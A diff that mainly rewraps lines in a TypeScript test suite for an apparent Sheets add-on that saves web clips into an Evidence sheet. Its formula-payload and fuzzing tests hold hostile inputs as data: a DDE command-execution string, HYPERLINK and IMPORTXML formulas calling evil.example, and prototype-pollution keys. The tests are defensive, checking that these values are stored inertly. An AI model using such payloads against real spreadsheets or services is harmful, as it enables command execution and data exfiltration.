@@ -68,7 +68,10 @@ async function intake(options: { setUp?: boolean; webAppUrl?: string | null; con
   }
   const post = (body: unknown): ClipAnswer => {
     const contents = typeof body === 'string' ? body : JSON.stringify(body);
-    const out = run.doPost!({ postData: { contents, type: 'text/plain', length: contents.length, name: 'postData' }, parameter: {}, parameters: {} }) as { getContent(): string; getMimeType(): unknown };
+    const out = run.doPost!({ postData: { contents, type: 'text/plain', length: contents.length, name: 'postData' }, parameter: {}, parameters: {} }) as {
+      getContent(): string;
+      getMimeType(): unknown;
+    };
     expect(String(out.getMimeType())).toMatch(/JSON/);
     return JSON.parse(out.getContent()) as ClipAnswer;
   };
@@ -226,7 +229,9 @@ describe('a clip', () => {
     const target = missingEvidenceRow(t.view);
     const bytes = Buffer.from('%PDF-1.4 a training certificate\n\u00ff\u0000binary', 'latin1');
     const trackerBefore = snapshotCells(t.host.spreadsheet.sheets[0]!);
-    const answer = t.post(clipRequest(token, { requirement: target.requirement!, snapshot: { kind: 'pdf', name: 'certificate.pdf', base64: bytes.toString('base64') } }));
+    const answer = t.post(
+      clipRequest(token, { requirement: target.requirement!, snapshot: { kind: 'pdf', name: 'certificate.pdf', base64: bytes.toString('base64') } }),
+    );
     const sha = createHash('sha256').update(bytes).digest('hex');
     expect(answer).toMatchObject({ ok: true, action: 'clip', clipId: CLIP.id, row: 2, sheet: 'Evidence', duplicate: false, sha256: sha });
 
@@ -237,8 +242,17 @@ describe('a clip', () => {
     expect(Object.prototype.toString.call(at)).toBe('[object Date]');
     expect((at as Date).toISOString()).toBe(CLIP.capturedAt);
     expect(rest).toEqual({
-      By: 'Priya Patel', Requirement: target.requirement, Item: '', 'Item row when saved': '', Element: target.element, Title: CLIP.title, Link: CLIP.url,
-      Excerpt: CLIP.excerpt, Note: CLIP.note, 'SHA-256': sha, 'Clip id': CLIP.id,
+      By: 'Priya Patel',
+      Requirement: target.requirement,
+      Item: '',
+      'Item row when saved': '',
+      Element: target.element,
+      Title: CLIP.title,
+      Link: CLIP.url,
+      Excerpt: CLIP.excerpt,
+      Note: CLIP.note,
+      'SHA-256': sha,
+      'Clip id': CLIP.id,
     });
     // The record date is written as a date: Sheets reads it as one, at midnight in the spreadsheet's zone.
     expect(Object.prototype.toString.call(recordDate)).toBe('[object Date]');
@@ -401,7 +415,9 @@ describe('a clip saved against a row', () => {
     const tracker = t.host.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Tracker');
     const person = team(t.host);
     person.insertRows('Tracker', 6, 2);
-    const answer = t.post(clipRequest(token, { id: 'clip-inserted-1', requirement: target.row, item: ` ${target.text.toUpperCase()} `, recordDate: '2026-11-01' }));
+    const answer = t.post(
+      clipRequest(token, { id: 'clip-inserted-1', requirement: target.row, item: ` ${target.text.toUpperCase()} `, recordDate: '2026-11-01' }),
+    );
     expect(answer).toMatchObject({ ok: true });
     expect(evidenceRows(t)[0]).toMatchObject({ Item: target.text, 'Item row when saved': target.row + 2 });
     person.insertRows('Tracker', 6, 3);
@@ -428,7 +444,7 @@ describe('a clip saved against a row', () => {
 });
 
 describe('the Evidence sheet found by header and tag', () => {
-  it('a column inserted into the Evidence sheet: a retried clip is not written twice and new rows land in the add-on\'s columns', async () => {
+  it("a column inserted into the Evidence sheet: a retried clip is not written twice and new rows land in the add-on's columns", async () => {
     const t = await intake();
     const { token } = pair(t);
     const first = t.post(clipRequest(token, { snapshot: { kind: 'png', name: 'shot.png', base64: Buffer.from('png bytes').toString('base64') } }));
@@ -437,13 +453,19 @@ describe('the Evidence sheet found by header and tag', () => {
     const person = team(t.host);
     person.insertColumns('Evidence', 7);
     sheet.getRange('G1:G2').setValues([['Our ref'], ['REF-1']]);
-    sheet.getRange(1, 1, 1, 15).getValues()[0]!.forEach((h: unknown, c: number) => {
-      if (h === 'Note') sheet.getRange(1, c + 1).setValue('Remarks');
-    });
+    sheet
+      .getRange(1, 1, 1, 15)
+      .getValues()[0]!
+      .forEach((h: unknown, c: number) => {
+        if (h === 'Note') sheet.getRange(1, c + 1).setValue('Remarks');
+      });
     const theirs = () => (sheet.getRange('G1:G20').getValues() as unknown[][]).map((r) => r[0]);
     const theirsBefore = theirs();
 
-    expect(t.post(clipRequest(token, { snapshot: { kind: 'png', name: 'shot.png', base64: Buffer.from('png bytes').toString('base64') } }))).toEqual({ ...first, duplicate: true });
+    expect(t.post(clipRequest(token, { snapshot: { kind: 'png', name: 'shot.png', base64: Buffer.from('png bytes').toString('base64') } }))).toEqual({
+      ...first,
+      duplicate: true,
+    });
     expect(evidenceRows(t)).toHaveLength(1);
     const second = t.post(clipRequest(token, { id: 'clip-0002-abcdef', title: 'Second certificate', note: 'second note' }));
     expect(second).toMatchObject({ ok: true, row: 3, duplicate: false });
@@ -487,14 +509,21 @@ describe('the Evidence sheet found by header and tag', () => {
     const ss = t.host.globals.SpreadsheetApp.getActiveSpreadsheet();
     const old = ss.insertSheet('Evidence');
     const header = ['Captured at', 'By', 'Requirement', 'Element', 'Title', 'Link', 'Record date', 'Excerpt', 'Note', 'Snapshot', 'SHA-256', 'Clip id'];
-    old.getRange(1, 1, 2, 12).setValues([header, [new Date(), 'Priya', `Row ${target.row}`, '', 'Old clip', 'https://example.com', '2026-11-01', '', '', '', '', 'clip-old-000001']]);
+    old
+      .getRange(1, 1, 2, 12)
+      .setValues([header, [new Date(), 'Priya', `Row ${target.row}`, '', 'Old clip', 'https://example.com', '2026-11-01', '', '', '', '', 'clip-old-000001']]);
     t.host.properties.script['secor-ready.evidence-sheet'] = JSON.stringify({ sheetId: old.getSheetId(), name: 'Evidence' });
     t.run.rescan!();
     expect(readinessOf(t, target.text)).not.toMatch(/Missing evidence/);
     expect(t.post(clipRequest(token, { id: 'clip-old-000001' }))).toMatchObject({ ok: true, duplicate: true, row: 2 });
     expect(t.post(clipRequest(token, { id: 'clip-new-000001', requirement: target.row, item: target.text }))).toMatchObject({ ok: true, row: 3 });
     expect(old.getRange(1, 1, 1, 14).getValues()[0]).toEqual([...header, 'Item', 'Item row when saved']);
-    expect(evidenceRows(t)[1]).toMatchObject({ Requirement: target.requirement, Item: target.text, 'Item row when saved': target.row, 'Clip id': 'clip-new-000001' });
+    expect(evidenceRows(t)[1]).toMatchObject({
+      Requirement: target.requirement,
+      Item: target.text,
+      'Item row when saved': target.row,
+      'Clip id': 'clip-new-000001',
+    });
   });
 
   it('a first-version Evidence row ("Row 14 · E4-02") still counts, so does an id the team retyped by hand; an id the checklist lacks counts toward nothing', async () => {
@@ -503,7 +532,25 @@ describe('the Evidence sheet found by header and tag', () => {
     const ss = t.host.globals.SpreadsheetApp.getActiveSpreadsheet();
     const old = ss.insertSheet('Evidence');
     const header = ['Captured at', 'By', 'Requirement', 'Element', 'Title', 'Link', 'Record date', 'Excerpt', 'Note', 'Snapshot', 'SHA-256', 'Clip id'];
-    old.getRange(1, 1, 2, 12).setValues([header, [new Date(), 'Priya', `Row ${target.row} · ${target.requirement}`, '', 'Old clip', 'https://example.com', '2026-11-01', '', '', '', '', 'clip-old-000001']]);
+    old
+      .getRange(1, 1, 2, 12)
+      .setValues([
+        header,
+        [
+          new Date(),
+          'Priya',
+          `Row ${target.row} · ${target.requirement}`,
+          '',
+          'Old clip',
+          'https://example.com',
+          '2026-11-01',
+          '',
+          '',
+          '',
+          '',
+          'clip-old-000001',
+        ],
+      ]);
     t.host.properties.script['secor-ready.evidence-sheet'] = JSON.stringify({ sheetId: old.getSheetId(), name: 'Evidence' });
     const readinessWith = (requirement: string) => {
       old.getRange(2, 3).setValue(requirement);
@@ -544,7 +591,11 @@ describe('a real bound web app', () => {
     expect(t.post({ v: 1, token, action: 'ping' })).toMatchObject({ ok: false, error: { code: 'unknown-token' } });
     expect((t.run.listClipperPeople!() as ClipperPerson[]).map((p) => p.name)).toEqual(['Priya Patel']);
     expect(t.host.properties.document).toEqual({ 'team.own-key': 'theirs' });
-    expect(Object.keys(t.host.properties.script).sort()).toEqual(Object.keys(document).filter((k) => k.startsWith('secor-ready.')).sort());
+    expect(Object.keys(t.host.properties.script).sort()).toEqual(
+      Object.keys(document)
+        .filter((k) => k.startsWith('secor-ready.'))
+        .sort(),
+    );
     // An earlier version kept no id for the web app to open: the coordinator's next setup (or connect) keeps it.
     expect(t.post({ v: 1, token, action: 'ping' })).toMatchObject({ ok: false, error: { code: 'not-set-up' } });
     const proposal = t.run.proposeSetup!() as SetupProposal;
@@ -632,14 +683,35 @@ describe('refusals write nothing', () => {
   });
 });
 
-const FORMULAS = ["=cmd|' /C calc'!A0", '+SUM(1)', '-1+1', '@SUM(A1:A9)', '\t=1', '\r=1', "'quoted", '=HYPERLINK("http://evil.example","click")', '0012', 'TRUE', '2026-01-01', '1e5'];
+const FORMULAS = [
+  "=cmd|' /C calc'!A0",
+  '+SUM(1)',
+  '-1+1',
+  '@SUM(A1:A9)',
+  '\t=1',
+  '\r=1',
+  "'quoted",
+  '=HYPERLINK("http://evil.example","click")',
+  '0012',
+  'TRUE',
+  '2026-01-01',
+  '1e5',
+];
 
 describe('formula payloads', () => {
   it('are stored as text, in every field that comes from the web and in the person name', async () => {
     const t = await intake();
     const { token } = pair(t, '=IMPORTXML("http://evil.example","//a")', null);
     FORMULAS.forEach((payload, i) => {
-      const answer = t.post(clipRequest(token, { id: `formula-clip-${i}`, title: payload, excerpt: payload, note: payload, url: `https://example.com/${encodeURIComponent(payload)}` }));
+      const answer = t.post(
+        clipRequest(token, {
+          id: `formula-clip-${i}`,
+          title: payload,
+          excerpt: payload,
+          note: payload,
+          url: `https://example.com/${encodeURIComponent(payload)}`,
+        }),
+      );
       expect(answer, payload).toMatchObject({ ok: true });
     });
     const sheet = evidence(t);
@@ -746,7 +818,9 @@ describe('snapshots in Drive under drive.file (issue 9)', () => {
     return ids.at(-1) ?? CLIP.id;
   }
 
-  it("a clip's Spreadsheet calls are the same at 10, 1,000 and 10,000 Evidence rows, and the Evidence sheet is never read whole", { timeout: 60_000 }, async () => {
+  it("a clip's Spreadsheet calls are the same at 10, 1,000 and 10,000 Evidence rows, and the Evidence sheet is never read whole", {
+    timeout: 60_000,
+  }, async () => {
     const calls: Record<number, { saved: number; duplicate: number }> = {};
     for (const rows of [10, 1_000, 10_000]) {
       const t = await intake();
@@ -827,7 +901,17 @@ const hostileText = fc.oneof(
   fc.string({ unit: 'binary', maxLength: 30 }),
 );
 const hugeText = fc.constantFrom('x'.repeat(5_001), '='.repeat(20_000), 'é'.repeat(1_001), 'A'.repeat(300_000));
-const junk = fc.oneof(hostileText, hugeText, fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 3 }), fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }), fc.jsonValue({ maxDepth: 4 }));
+const junk = fc.oneof(
+  hostileText,
+  hugeText,
+  fc.integer(),
+  fc.double(),
+  fc.boolean(),
+  fc.constant(null),
+  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 3 }),
+  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }),
+  fc.jsonValue({ maxDepth: 4 }),
+);
 
 const CLIP_FIELDS = ['id', 'url', 'title', 'capturedAt', 'recordDate', 'requirement', 'excerpt', 'note', 'snapshot'] as const;
 
@@ -840,11 +924,20 @@ describe('fuzzing doPost', () => {
     const tracker = t.host.spreadsheet.sheets[0]!;
     const trackerBefore = snapshotCells(tracker);
     const propsBefore = Object.keys(t.host.properties.script).sort();
-    const ids = t.view.gapGroups.flatMap((g) => g.rows).map((r) => r.requirement).filter((r): r is string => r !== null);
+    const ids = t.view.gapGroups
+      .flatMap((g) => g.rows)
+      .map((r) => r.requirement)
+      .filter((r): r is string => r !== null);
     const rows = t.view.gapGroups.flatMap((g) => g.rows).map((r) => r.row);
 
     const anyToken = fc.oneof({ weight: 6, arbitrary: fc.constant(token) }, fc.constant(revoked.token), fc.constant('0'.repeat(64)), junk);
-    const requirement = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...ids) }, { weight: 4, arbitrary: fc.constantFrom(...rows) }, fc.constantFrom(...t.view.missing.map((m) => m.id)), fc.integer({ min: -5, max: 2_000 }), junk);
+    const requirement = fc.oneof(
+      { weight: 4, arbitrary: fc.constantFrom(...ids) },
+      { weight: 4, arbitrary: fc.constantFrom(...rows) },
+      fc.constantFrom(...t.view.missing.map((m) => m.id)),
+      fc.integer({ min: -5, max: 2_000 }),
+      junk,
+    );
     const clipId = fc.oneof(fc.stringMatching(/^[A-Za-z0-9_-]{8,16}$/), fc.constantFrom('repeat-id-0001', 'repeat-id-0002', '--------', '00000001'));
     const goodClip = fc.record({
       id: clipId,
@@ -857,13 +950,25 @@ describe('fuzzing doPost', () => {
       note: hostileText,
       snapshot: fc.oneof(
         { weight: 4, arbitrary: fc.constant(null) },
-        { weight: 2, arbitrary: fc.record({ kind: fc.constantFrom('png', 'pdf', 'mhtml'), name: hostileText, base64: fc.uint8Array({ maxLength: 64 }).map((b) => Buffer.from(b).toString('base64')) }) },
+        {
+          weight: 2,
+          arbitrary: fc.record({
+            kind: fc.constantFrom('png', 'pdf', 'mhtml'),
+            name: hostileText,
+            base64: fc.uint8Array({ maxLength: 64 }).map((b) => Buffer.from(b).toString('base64')),
+          }),
+        },
         fc.record({ kind: fc.constantFrom('png', 'exe'), name: hostileText, base64: fc.constantFrom('abc', '====', '', '!!', 'QQ') }),
       ),
     });
     const brokenClip = fc.tuple(goodClip, fc.constantFrom(...CLIP_FIELDS), junk).map(([clip, field, value]) => ({ ...clip, [field]: value }));
     const envelope = (clip: fc.Arbitrary<unknown>) =>
-      fc.record({ v: fc.oneof({ weight: 8, arbitrary: fc.constant(1) }, junk), token: anyToken, action: fc.oneof({ weight: 8, arbitrary: fc.constantFrom('clip', 'ping', 'requirements') }, junk), clip });
+      fc.record({
+        v: fc.oneof({ weight: 8, arbitrary: fc.constant(1) }, junk),
+        token: anyToken,
+        action: fc.oneof({ weight: 8, arbitrary: fc.constantFrom('clip', 'ping', 'requirements') }, junk),
+        clip,
+      });
     const body = fc.oneof(
       { weight: 3, arbitrary: goodClip.map((clip) => JSON.stringify({ v: 1, token, action: 'clip', clip })) },
       envelope(goodClip).map((b) => JSON.stringify(b)),
@@ -872,7 +977,11 @@ describe('fuzzing doPost', () => {
       fc.string({ unit: 'grapheme', maxLength: 60 }),
       fc.constantFrom('', '{', 'null', '[]', '"clip"', '{"v":1}', '\u0000'),
       // Prototype-pollution keys, written as JSON text so they stay own keys.
-      envelope(goodClip).map((b) => JSON.stringify(b).replace(/^\{/, '{"__proto__":{"polluted":true,"v":2},"constructor":{"prototype":{"polluted":true}},').replace('"clip":{', '"clip":{"__proto__":{"requirement":"E1-01","polluted":true},')),
+      envelope(goodClip).map((b) =>
+        JSON.stringify(b)
+          .replace(/^\{/, '{"__proto__":{"polluted":true,"v":2},"constructor":{"prototype":{"polluted":true}},')
+          .replace('"clip":{', '"clip":{"__proto__":{"requirement":"E1-01","polluted":true},'),
+      ),
     );
 
     const samples = fc.sample(body, { seed: 20261126, numRuns: 1_200 });
@@ -906,7 +1015,18 @@ describe('fuzzing doPost', () => {
       }
     }
     // Every kind of answer came up.
-    for (const code of ['bad-json', 'bad-version', 'bad-request', 'unknown-action', 'unknown-token', 'revoked-token', 'unknown-requirement', 'clip', 'ping', 'requirements']) {
+    for (const code of [
+      'bad-json',
+      'bad-version',
+      'bad-request',
+      'unknown-action',
+      'unknown-token',
+      'revoked-token',
+      'unknown-requirement',
+      'clip',
+      'ping',
+      'requirements',
+    ]) {
       expect(codes[code], `${code} in ${JSON.stringify(codes)}`).toBeGreaterThan(0);
     }
     console.log(`fuzz answers: ${JSON.stringify(codes)}`);
@@ -917,7 +1037,11 @@ describe('fuzzing doPost', () => {
     expect(snapshotCells(tracker)).toEqual(trackerBefore);
     expect(t.host.spreadsheet.sheets.map((s) => s.name)).toEqual(['Tracker', 'Evidence']);
     // Only the add-on's own keys were added to the store (the Evidence sheet and folder).
-    expect(Object.keys(t.host.properties.script).filter((k) => !propsBefore.includes(k)).sort()).toEqual(['secor-ready.evidence-folder', 'secor-ready.evidence-sheet']);
+    expect(
+      Object.keys(t.host.properties.script)
+        .filter((k) => !propsBefore.includes(k))
+        .sort(),
+    ).toEqual(['secor-ready.evidence-folder', 'secor-ready.evidence-sheet']);
     // Nothing leaked into the bundle's Object.prototype.
     const inBundle = (t.run.doGet as unknown as { constructor: FunctionConstructor }).constructor('return ({}).polluted')() as unknown;
     expect(inBundle).toBeUndefined();
